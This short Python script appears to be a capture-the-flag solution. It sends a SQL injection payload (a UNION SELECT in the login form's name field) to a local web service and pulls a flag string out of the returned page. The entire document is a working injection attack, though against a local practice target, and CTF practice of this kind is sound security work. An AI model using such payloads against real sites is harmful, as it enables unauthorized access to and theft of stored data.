import re, urllib.parse, urllib.request

name = "x' UNION SELECT text FROM notes --"
data = urllib.parse.urlencode({"name": name, "password": ""}).encode()
page = urllib.request.urlopen("http://127.0.0.1:7000/login", data).read().decode()
print(re.search(r"flag\{.*?\}", page)[0])
